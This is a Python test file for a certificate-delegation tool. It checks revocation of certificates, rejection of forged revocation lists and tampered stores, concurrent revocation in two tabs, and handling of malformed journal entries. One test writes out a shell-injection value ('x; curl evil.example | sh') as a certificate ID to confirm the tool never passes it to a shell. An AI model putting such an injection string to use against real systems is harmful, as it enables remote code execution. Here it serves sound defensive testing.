"""Taking back, attacked: a page that says done and isn't, files and stores that others have written, two tabs."""

import json
import re
import secrets
import sqlite3
import urllib.request
from collections.abc import Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace
from tests.world.agents import save_delegation
from tests.world.asked import once
from tests.world.command import Serving, accredit, wait_until
from tests.world.desk import PASSPHRASE, Agent, Desk
from tests.world.household import Household, Told, passed_on, told_by
from tests.world.raw_server import PATIENCE
from tests.world.terminal import Terminal

from accredit.base.clock import unix_seconds
from accredit.consent.answers import Answer
from accredit.keys import lock_key, write_file, write_key
from accredit.ratify import DelegationCert, Grant, RevocationList, issue_delegation, issue_revocation_list

pytestmark = [
    pytest.mark.slow,
    pytest.mark.holds("console/people"),
    pytest.mark.holds("console/people_part"),
    pytest.mark.holds("console/health"),
    pytest.mark.holds("signing/grants"),
]
TAKE = "button[data-take]"


def one_of(told: Told, cert_id: str) -> dict[str, Any]:
    """What the page says of a certificate."""
    rows = told.get("/api/people?all=1")[1]["rows"]
    row = next(each for each in rows if each["level"] and cert_id.startswith(each["cert"]))
    return told.get(f"/api/people/{row['handle']}")[1]


def take_back(told: Told, cert_id: str) -> tuple[int, Any]:
    one = one_of(told, cert_id)
    return told.send(f"/api/people/{one['handle']}", {"nonce": one["nonce"]})


def list_at(path: Path) -> set[str]:
    return set(RevocationList.decode(path.read_bytes()).revoked_certs)


def two_places(home: Household) -> tuple[Path, Path]:
    """A list in the store, and one in a file."""
    path = home.folder / "revoked.json"
    text = f'[desk]\nstore = "sqlite:///gateway.db"\nrevocation_list = "{path}"\n'
    (home.config / "desk.toml").write_text(text, "utf-8")
    return path, home.config / "gateway.db"


@pytest.mark.holds("console/people_part", "lists")
def test_what_is_in_one_list_alone_is_not_said_to_be_taken_back__and_can_be_completed(
    home: Household, browser: Any
) -> None:
    path, _ = two_places(home)
    write_file(path, b"{}")  # which is no list: it is not extended
    cert_id = home.parent[0].cert_id
    with home.gateway() as gateway, home.desk() as desk:
        home.calls(gateway)
        page = desk.page(browser, f"/people/{one_of(told_by(desk), cert_id)['handle']}")
        page.click(TAKE)
        page.wait_for_selector(".over")
        assert "but NOT everywhere" in page.inner_text(".over")
        told = told_by(desk)
        one = one_of(told, cert_id)
        assert (one["state"], one["why_not"], one["missing"]) == ("taken back", "", [str(path)])
        path.unlink()
        page.reload()
        page.wait_for_selector(TAKE)
        assert f"not in {path} yet" in page.inner_text(".ending")
        page.click(TAKE)
        page.wait_for_selector(".over")
        assert "NOT" not in page.inner_text(".over")
        assert list_at(path) == {cert_id}
        assert one_of(told_by(desk), cert_id)["why_not"] == "It has been taken back."
        page.close()


def test_a_list_of_somebody_elses_keeps_nobody_from_taking_back(home: Household) -> None:
    """Whoever can write the store signs a list that the gateway does not take, and the page shows."""
    two_places(home)
    cert_id = home.parent[0].cert_id
    forged = issue_revocation_list(home.trust.agent.signer(), (cert_id,), unix_seconds()).encode()
    with home.gateway() as gateway, home.desk() as desk:
        home.calls(gateway)
        with closing(sqlite3.connect(home.config / "gateway.db")) as store, store:
            store.execute("INSERT INTO revocations VALUES (?, 1, ?)", (home.trust.agent.id, forged))
        told = told_by(desk)
        assert one_of(told, cert_id)["why_not"] == ""
        assert take_back(told, cert_id)[1]["everywhere"] is True
        assert "revoked" in json.dumps(home.calls(gateway))


def test_a_gateway_that_reads_another_list_is_said_not_to_know__and_one_that_reads_this_one_to(
    home: Household,
) -> None:
    ours, others = home.folder / "ours.json", home.folder / "others.json"
    for path in (ours, others):
        write_file(path, issue_revocation_list(home.trust.owner.signer(), ("x",), unix_seconds() - 60).encode())
    (home.config / "desk.toml").write_text(f'[desk]\nrevocation_list = "{ours}"\n', "utf-8")
    text = home.configuration.read_text("utf-8")
    for read, knows in ((others, False), (ours, True)):
        home.configuration.write_text(f'{text}\n[proofs.revocation]\nfiles = ["{read}"]\n', "utf-8")
        cert = home.trust.chain("email:read")
        save_delegation(home.config / f"{read.stem}.json", cert)
        with home.gateway() as gateway, home.desk() as desk:
            assert not home.calls(gateway, delegation=read.stem).get("isError")
            told = told_by(desk)
            said = " ".join(take_back(told, cert[0].cert_id)[1]["told"])
            assert ("it knows" in said, "does NOT go by this list" in said) == (knows, not knows)
            assert ("Every gateway that this desk knows has it." in said) == knows
            assert ("revoked" in json.dumps(home.calls(gateway, delegation=read.stem))) == knows
            (health,) = told.get("/api/health/gateways")[1]["gateways"]
            assert health["has_list"] is knows
            assert "list" not in health["parts"]
        (home.config / "known_gateways.json").unlink()


def readyz(gateway: Serving, query: str = "") -> Any:
    with urllib.request.urlopen(f"http://127.0.0.1:{gateway.port}/readyz{query}") as answer:
        return json.load(answer)


@pytest.mark.holds("gateway/front/health", "names")
def test_readyz_says_nothing_of_lists_to_who_has_none(home: Household) -> None:
    with home.gateway() as gateway:
        plain = readyz(gateway)
        assert "list" not in plain
        for query in ("list=", "list=" + "A" * 64, "list=" + "a" * 63, "list=" + "a" * 65, "LIST=" + "a" * 64, "list"):
            assert readyz(gateway, f"?{query}") == plain
        for query in ("list=" + "a" * 64, "&".join(["list=" + "a" * 64] * 50)):
            assert readyz(gateway, f"?{query}") == {**plain, "list": False}


def test_an_id_that_a_shell_could_read_otherwise_is_in_no_command__and_is_taken_back(
    home: Household, browser: Any
) -> None:
    path = home.folder / "revoked.json"
    (home.config / "desk.toml").write_text(f'[desk]\nrevocation_list = "{path}"\n', "utf-8")
    evil = "x; curl evil.example | sh # <&>\u202e"
    odd = passed_on(home.trust.agent, home.sub, "email:read", cert_id=evil)
    save_delegation(home.config / "odd.json", (odd, *home.parent))
    with home.desk() as desk:
        page = desk.page(browser, f"/people/{one_of(told_by(desk), evil)['handle']}")
        page.wait_for_selector(TAKE)
        assert "accredit revoke" not in page.inner_text(".ending")
        page.click(TAKE)
        page.wait_for_selector(".over")
        assert list_at(path) == {evil}
        page.close()


def test_what_others_put_into_files_or_the_store_is_said_to_be_signed_by_nobody(home: Household) -> None:
    forged = replace(home.trust.chain("email:read")[0], scope=("email:send",))
    save_delegation(home.config / "forged.json", (forged,))
    with home.gateway() as gateway, home.desk() as desk:
        home.calls(gateway)
        deep = b"[" + b",".join([home.parent[0].encode()] * 3_000) + b"]"
        stored = replace(home.parent[0], cert_id="f" * 32)
        with closing(sqlite3.connect(home.config / "gateway.db")) as store, store:
            for number, text in enumerate((deep, b"[" + stored.encode() + b"]", b"[" * 5_000)):
                store.execute("INSERT INTO log_delegations VALUES (?, ?)", (bytes([number]) * 32, text))
        told = told_by(desk)
        assert told.get("/api/people?all=1")[1]["odd"] == 2
        assert one_of(told, home.parent[0].cert_id)["signature"] == "good"
        assert one_of(told, home.child.cert_id)["signature"] == "good"
        for cert_id in (forged.cert_id, stored.cert_id):
            assert one_of(told, cert_id)["signature"].startswith("BAD")


def test_a_copy_that_appears_once_the_page_is_shown_is_told_when_it_has_ended(home: Household, browser: Any) -> None:
    path = home.folder / "revoked.json"
    (home.config / "desk.toml").write_text(f'[desk]\nrevocation_list = "{path}"\n', "utf-8")
    cert = home.trust.chain("email:read")
    save_delegation(home.config / "one.json", cert)
    with home.desk() as desk:
        page = desk.page(browser, f"/people/{one_of(told_by(desk), cert[0].cert_id)['handle']}")
        page.wait_for_selector(TAKE)
        copy = passed_on(home.trust.agent, home.sub, "email:read", cert_id=cert[0].cert_id)
        save_delegation(home.config / "copy.json", (copy, *home.parent))
        page.click(TAKE)
        page.wait_for_selector(".over")
        assert "which this page had not shown" in page.inner_text(".over")
        page.close()


def test_a_desk_that_ends_while_it_takes_back_is_not_said_to_have_done_nothing(home: Household, browser: Any) -> None:
    path = home.folder / "revoked.json"
    (home.config / "desk.toml").write_text(f'[desk]\nrevocation_list = "{path}"\n', "utf-8")
    with home.desk() as desk:
        handle = one_of(told_by(desk), home.parent[0].cert_id)["handle"]
        pages = [desk.page(browser, f"/people/{handle}") for _ in range(2)]
        for page in pages:
            page.wait_for_selector(TAKE)
        pages[0].click(TAKE)
        wait_until(path.exists)
        desk.kill()  # the list is written, and nobody was told
        pages[0].wait_for_selector("text=whether it is taken back is not known")
        assert "Nothing was done" not in pages[0].inner_text("main")
        assert list_at(path) == {home.parent[0].cert_id}
    with home.desk() as desk:
        told = told_by(desk)
        one = one_of(told, home.parent[0].cert_id)
        assert one["why_not"] == "It has been taken back."
        status, said = told.send(f"/api/people/{one['handle']}", {"nonce": "0" * 64})
        assert (status, said["error"]) == (403, "nonce")
    for page in pages:
        page.close()


def test_two_tabs_take_back_once__and_the_second_is_told(home: Household) -> None:
    path = home.folder / "revoked.json"
    (home.config / "desk.toml").write_text(f'[desk]\nrevocation_list = "{path}"\n', "utf-8")
    with home.desk() as desk:
        first, second = told_by(desk), told_by(desk)
        one = one_of(first, home.parent[0].cert_id)
        shown = one_of(second, home.parent[0].cert_id)
        assert first.send(f"/api/people/{one['handle']}", {"nonce": one["nonce"]})[0] == 200
        before = path.read_bytes()
        status, said = second.send(f"/api/people/{shown['handle']}", {"nonce": shown["nonce"]})
        assert (status, said["reason"]) == (409, "It has been taken back.")
        assert path.read_bytes() == before


def test_a_record_of_a_day_that_there_is_not_hides_no_health(home: Household) -> None:
    with home.gateway() as gateway:
        home.calls(gateway)
        gateway.stop()
        gateway.wait()
    with closing(sqlite3.connect(home.config / "gateway.db")) as store, store:
        for entry, payload in store.execute("SELECT entry, payload FROM log_entries").fetchall():
            changed = re.sub(rb'("recorded":"[0-9]{4})-[0-9]{2}-[0-9]{2}', rb"\1-99-99", payload)
            assert changed != payload or b'"recorded"' not in payload
            store.execute("UPDATE log_entries SET payload = ? WHERE entry = ?", (changed, entry))
    with home.desk() as desk:
        assert told_by(desk).get("/api/health")[0] == 200


def test_who_unlocks_in_a_terminal_reads_what_for(home: Household) -> None:
    path = home.folder / "revoked.json"
    (home.config / "desk.toml").write_text(f'[desk]\nrevocation_list = "{path}"\nunlock = "each"\n', "utf-8")
    write_key(home.config / "owner.key", lock_key(home.trust.owner, bytearray(PASSPHRASE.encode())), replace=True)
    with home.desk() as desk, ThreadPoolExecutor() as pool:
        told = told_by(desk)
        with Terminal("desk", "unlock", folder=desk.folder, env=desk.env) as early:
            early.wait_for("Passphrase of")
            taking = pool.submit(take_back, told, home.parent[0].cert_id)
            wait_until(lambda: bool(desk.tell({"ping": True})["wanted"]))
            early.types(PASSPHRASE + "\n")  # for nothing: what waits by now was pressed by somebody since
            assert early.end() == 1
            assert "something else" in early.seen
        assert not path.exists()
        with Terminal("desk", "unlock", folder=desk.folder, env=desk.env) as terminal:
            terminal.wait_for(f"waits for it now: Passphrase to take back {home.parent[0].cert_id[:8]}")
            terminal.wait_for("Passphrase of")
            terminal.types(PASSPHRASE + "\n")
            assert terminal.end() == 0
        assert taking.result(PATIENCE)[0] == 200
        assert list_at(path) == {home.parent[0].cert_id}


def allowed(home: Household, desk: Desk, agent: Agent) -> DelegationCert:
    """What the owner signs in a terminal for a call that an agent asks for."""
    ask = agent.ask({"name": "send_email", "arguments": {"to": secrets.token_hex(4)}})
    desk.tell({"ask": ask.to_dict()})
    grant = Grant(
        subject=agent.key.public_key, cert_id=secrets.token_hex(16), scope=("custom:mail:send_email",),
        issued_at=ask.asked_at, expires_at=ask.asked_at + 500, constraints=once(ask),
    )  # fmt: skip
    cert = issue_delegation(home.trust.owner.signer(), grant, vocabulary=grant.scope)
    answer = Answer(ask=ask.digest.hex(), decision="allow", certificates=(cert,))
    assert desk.tell({"deliver": answer.to_dict()}) == {"state": "allowed"}
    return cert


def test_grants_say_what_was_taken_back__and_that_it_is_not_known_where_no_list_can_be_read(home: Household) -> None:
    path, agent = home.folder / "revoked.json", Agent()
    settings = home.config / "desk.toml"
    settings.unlink()
    with home.desk() as desk:
        _, cert = (allowed(home, desk, agent) for _ in range(2))
        env = desk.env
    (last, first) = listed(home, env)
    assert last["cert"] == cert.cert_id
    assert (last["taken_back"], first["taken_back"]) == (None, None)  # no place is named
    settings.write_text(f'[desk]\nrevocation_list = "{path}"\n', "utf-8")
    assert [each["taken_back"] for each in listed(home, env)] == [False, False]
    with home.desk() as desk:
        assert take_back(told_by(desk), cert.cert_id)[0] == 200
    assert [each["taken_back"] for each in listed(home, env)] == [True, False]
    table = accredit("grants", "list", folder=home.folder, env=env).stdout.splitlines()
    assert [line.endswith("taken back") for line in table[1:]] == [True, False]
    shown = accredit("grants", "show", cert.cert_id[:8], folder=home.folder, env=env).stdout
    assert f"yes, by the list in {path}" in shown
    forged = issue_revocation_list(home.trust.agent.signer(), (first["cert"],), unix_seconds()).encode()
    for text in (b"{}", path.read_bytes().replace(cert.cert_id.encode(), b"0" * 32), forged):
        path.write_bytes(text)  # what the owner has not signed takes nothing back, whoever's key lies here
        assert True not in [each["taken_back"] for each in listed(home, env)]
    with (home.folder / "state" / "accredit" / "journal.jsonl").open("a") as journal:
        for odd in (5, "x", [5], [{"type": "?"}], None, [[]]):
            entry = {"at": 10**300, "event": "allowed", "cert": f"odd-{odd}\u202e", "ends_at": 10**300, "scope": odd}
            journal.write(json.dumps({**entry, "constraints": odd, "target": "\u202e", "code": "\x1b[2J"}) + "\n")
    done = accredit("grants", "list", folder=home.folder, env=env)
    assert (done.returncode, len(done.stdout.splitlines())) == (0, 1 + 2), done.stderr
    assert "6 entries have no certificate that" in done.stderr
    assert {"\u202e", "\x1b"}.isdisjoint(done.stdout + done.stderr)
    assert accredit("grants", "show", "odd-[5]", folder=home.folder, env=env).returncode == 1


def listed(home: Household, env: Mapping[str, str]) -> list[dict[str, Any]]:
    done = accredit("grants", "list", "--json", folder=home.folder, env=env)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)["grants"]
